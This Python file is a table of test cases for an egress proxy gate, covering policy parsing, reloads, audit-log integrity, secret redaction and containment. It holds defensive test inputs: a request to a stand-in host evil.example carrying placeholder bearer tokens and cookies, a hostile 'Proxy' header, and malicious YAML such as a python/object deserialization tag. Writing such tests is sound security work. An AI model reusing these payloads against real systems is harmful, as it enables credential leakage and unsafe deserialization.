# SPDX-License-Identifier: Apache-2.0
"""Policies that say less than they seem to, records, and the life of the gate. What takes a gate of its own is tried by the
tests that are named."""
from support.gate import run_exeat

from .framing import fields_at_origin
from .table import Told, Try, case

ALLOW = "version: 1\nrules: [{ id: a, verdict: allow, hosts: [shop.example] }]\n"


def command(text, *words):
    """How a command ends that reads this policy."""

    def run(yard):
        policy = yard.gate.folder / "tried.yaml"
        policy.write_text(text)
        return run_exeat(words[0], "-c", policy, *words[1:]).returncode

    return Try(f"{words[0]} {text!r}"[:70], run)


def denies(text):
    return command(text, "explain", "CONNECT", "shop.example:443").leaves(1)


def wrong(text):
    return command(text, "check").leaves(2)


def says(text, word):
    """A warning of check, which --strict makes a no."""

    def run(yard):
        policy = yard.gate.folder / "tried.yaml"
        policy.write_text(text)
        done = run_exeat("check", "--strict", "-c", policy)
        return done.returncode, word in done.stderr

    return Try(f"check {word}", run)


def nothing_secret(yard):
    """What was sent as a secret is in no record and no line of the log."""
    with yard.gate.connect() as connection:
        connection.sendall(b"GET http://evil.example/a?key=s3cret-query HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer s3cret-token\r\nCookie: s3cret-cookie\r\n"
                           b"Connection: close\r\nProxy-Authorization: Basic cXVldWU6\r\n\r\n")
        while connection.recv(4096):
            pass
    return "s3cret" in repr(yard.gate.export()) + yard.gate.log()


case(99, "A policy that allows nothing denies all", "policy",
     denies("version: 1\n"), denies("version: 1\nrules: []\n"), *(wrong(text) for text in (
         "version: 1\nrules:\n", "version: 1\nrules: null\n", "version: 1\nrules: {}\n", "", "version: 1\nrules: [{ id: a, verdict: allow, hosts: null }]\n", "version: 1\nrules: [{ id: a, verdict: allow }]\n")),
     says("version: 1\nrules: [{ id: a, verdict: allow, hosts: [] }]\n", "can never match").leaves((1, True)), command(ALLOW, "explain", "CONNECT", "shop.example:443").leaves(0))
case(100, "A file with words that nobody knows, or that stand twice, is refused whole", "policy",
     *(wrong(ALLOW + more) for more in ("allowed: true\n", "rules: []\n", "mode: &a enforce\nlog: *a\n", "\tmode: enforce\n", "mode: 'enforce\n", "mode: enforce\n---\nversion: 1\n", "mode: \x07\n",
                                        "<<: { mode: observe }\n", "? [a, b]\n: c\n", "mode: !!python/object:x enforce\n")),
     wrong(ALLOW.replace("verdict: allow", "verdict: allow, verdict: deny")), wrong(ALLOW.replace("hosts", "host")), wrong(ALLOW.replace("allow,", "ALLOW,")),
     by=("scenario/test_bad_policy.py::test_a_file_of_100_mib_is_refused_unread", "scenario/test_bad_policy.py::test_an_alias_bomb_is_refused_at_its_first_anchor",
         "scenario/test_bad_policy.py::test_what_anybody_may_write_is_not_read_by_root"))
case(101, "A bad file leaves the old policy in force, and says so", "reload",
     by=("scenario/test_operations.py::test_a_bad_policy_leaves_the_old_one_in_force", "scenario/test_bad_policy.py::test_an_included_file_that_turns_bad_leaves_the_old_policy_in_force"))
case(102, "A new policy leaves open tunnels be, or cuts those that it denies", "reload",
     by=("scenario/test_break_glass.py::test_a_new_policy_leaves_open_tunnels_be", "scenario/test_break_glass.py::test_on_reload_cut_denied_ends_tunnels_that_the_new_policy_would_not_have"))
case(103, "A rule that never holds is said to be one", "policy",
     says(ALLOW.replace("}]", "}, { id: no, verdict: deny, hosts: [shop.example] }]"), "'a' can never").leaves((1, True)))
case(104, "A rule that would have to look inside says so where it cannot", "policy",
     wrong("version: 1\nlisten: { forward: [\"127.0.0.1:1\"] }\nrules: [{ id: a, verdict: allow, hosts: [shop.example], paths: [/v1/**] }]\n"))
case(105, "Without a record nothing leaves", "forward, CONNECT, DNS",
     by=("scenario/test_audit.py::test_on_a_stalled_disk_no_query_no_connection_and_no_byte_leaves", "scenario/test_audit.py::test_a_full_disk_refuses_and_recovers_by_itself",
         "scenario/test_audit.py::test_a_read_only_file_system_is_refused", "scenario/test_audit.py::test_a_failed_sync_ends_the_process"))
case(106, "After a kill nothing that was answered is missing", "audit",
     by=("scenario/test_kill.py::test_after_kill_at_any_moment_nothing_is_missing_and_all_verifies", "scenario/test_audit.py::test_after_kill_nothing_acknowledged_is_missing",
         "scenario/test_tamper.py::test_14_a_killed_writer_shows"))
case(107, "What is changed, taken out, cut off, swapped or put back is found, from outside where it must be", "audit",
     by=("scenario/test_audit.py::test_tampering_is_found", "scenario/test_tamper.py::test_it_is_found_without_help_from_outside",
         "scenario/test_tamper.py::test_4_a_tail_cut_at_a_checkpoint_is_seen_only_from_outside", "scenario/test_tamper.py::test_8_an_old_copy_is_seen_only_from_outside"))
case(108, "The log goes on over restarts, rotations, keys and clocks", "audit",
     by=("scenario/test_clean_logs.py::test_restarts_and_crashes", "scenario/test_clean_logs.py::test_a_clock_that_was_set_between_two_runs", "scenario/test_clean_logs.py::test_segments_that_roll",
         "scenario/test_prove.py::test_a_new_log_follows_a_stopped_one_and_a_crash_on_the_way_is_gone_on_from"))
case(109, "Secrets are in no record and in no log", "forward, LLM", Try("secrets", nothing_secret).leaves(False, Told("deny", "no_rule")),
     by=("scenario/test_llm.py::test_no_secret_is_in_records_or_log", "scenario/test_refusals.py::test_credentials_in_a_target_are_named_and_neither_told_nor_recorded"))
case(110, "A table carries no formula", "export", by=("scenario/test_audit.py::test_csv_is_a_table_and_cannot_carry_formulas", "scenario/test_audit.py::test_text_shows_no_control_characters"))
case(111, "Without descriptors, and with connections that say nothing, the gate goes on", "forward, CONNECT",
     by=("scenario/test_operations.py::test_out_of_descriptors_the_gate_lives_on", "scenario/test_overload.py::test_a_crowd_is_answered_to_the_last_and_the_served_are_served"))
case(112, "Who has ended his side may listen, and a break ends both", "CONNECT, forward",
     by=("scenario/test_tunnel.py::test_bytes_go_both_ways_and_half_close_is_passed_on", "scenario/test_replies.py::test_a_client_that_has_ended_its_side_is_answered",
         "scenario/test_replies.py::test_a_client_that_breaks_ends_it_at_once"))
case(113, "A slow reader holds the other side back", "forward, CONNECT",
     by=("scenario/test_backpressure.py::test_a_client_that_does_not_read_holds_the_origin_back", "scenario/test_backpressure.py::test_a_gib_goes_through_whole_and_memory_stays_flat"))
case(114, "An end waits for what is under way, and then cuts it", "forward",
     by=("scenario/test_operations.py::test_a_drain_finishes_what_is_under_way", "scenario/test_operations.py::test_a_drain_ends_at_its_deadline"))
case(115, "No other way leads out of the pod", "packets",
     by=("scenario/test_containment.py::test_no_packet_but_the_gates_leaves_the_pod_by_any_way", "scenario/test_containment.py::test_without_the_rules_the_same_ways_lead_out"))
case(116, "Where no rules can be set nobody is ready", "packets",
     by=("scenario/test_containment.py::test_a_pod_without_rules_is_never_ready_and_its_gate_says_what_to_do", "scenario/test_containment.py::test_rules_need_the_privilege_and_say_so"))
case(117, "Who does not know of the gate, or does not want to, meets it", "transparent",
     by=("scenario/test_transparent.py::test_php_that_knows_of_nothing_gets_what_a_rule_allows_and_nothing_else",
         "scenario/test_containment.py::test_a_gate_of_another_user_than_the_rules_say_is_not_ready"))
case(118, "A field Proxy does not go on", "forward", fields_at_origin(b"Proxy: http://evil.example:1/\r\nX-End: 1\r\n", kept=("x-end",), gone=("proxy",)).passed((200, [], [])))
